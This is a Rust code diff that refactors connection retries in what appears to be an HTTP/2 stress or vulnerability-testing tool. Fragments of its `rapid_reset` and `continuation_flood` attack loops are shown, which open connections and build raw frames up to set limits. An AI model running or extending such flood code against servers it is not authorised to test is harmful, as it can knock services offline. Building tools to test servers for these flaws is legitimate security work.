@@ -30,6 +30,18 @@ fn connect(to: SocketAddr) -> std::io::Result<TcpStream> {
     Ok(s)
 }
 
+/// The next attack connection, or `None` once 11 attempts in all have
+/// failed (the path is gone: stop rather than spin).
+fn next_conn(to: SocketAddr, errors: &mut Vec<String>) -> Option<Conn> {
+    while errors.len() <= 10 {
+        match connect(to).and_then(Conn::open) {
+            Ok(c) => return Some(c),
+            Err(e) => errors.push(e.to_string()),
+        }
+    }
+    None
+}
+
 fn goaway_counts(codes: &BTreeMap<u64, u64>) -> serde_json::Value {
     codes.iter().map(|(k, v)| (format!("0x{k:x}"), json!(v))).collect::<serde_json::Map<_, _>>().into()
 }
@@ -46,16 +58,7 @@ pub fn rapid_reset(to: SocketAddr, max_streams: u64, secs: u64) -> serde_json::V
     let mut errors = Vec::new();
     let started = Instant::now();
     'conns: while streams < max_streams && Instant::now() < deadline && conns < MAX_CONNS {
-        let conn = match connect(to).and_then(Conn::open) {
-            Ok(c) => c,
-            Err(e) => {
-                errors.push(e.to_string());
-                if errors.len() > 10 {
-                    break;
-                }
-                continue;
-            }
-        };
+        let Some(conn) = next_conn(to, &mut errors) else { break };
         conns += 1;
         let mut id = 1u32;
         while streams < max_streams && Instant::now() < deadline && id < 0x7fff_0000 {
@@ -97,16 +100,7 @@ pub fn continuation_flood(to: SocketAddr, max_frames: u64, secs: u64) -> serde_j
     let mut errors = Vec::new();
     let started = Instant::now();
     while frames < max_frames && Instant::now() < deadline && conns < MAX_CONNS {
-        let conn = match connect(to).and_then(Conn::open) {
-            Ok(c) => c,
-            Err(e) => {
-                errors.push(e.to_string());
-                if errors.len() > 10 {
-                    break;
-                }
-                continue;
-            }
-        };
+        let Some(conn) = next_conn(to, &mut errors) else { break };
         conns += 1;
         let mut first = Vec::new();
         h2raw::frame(&mut first, HEADERS, END_STREAM, 1, &block);
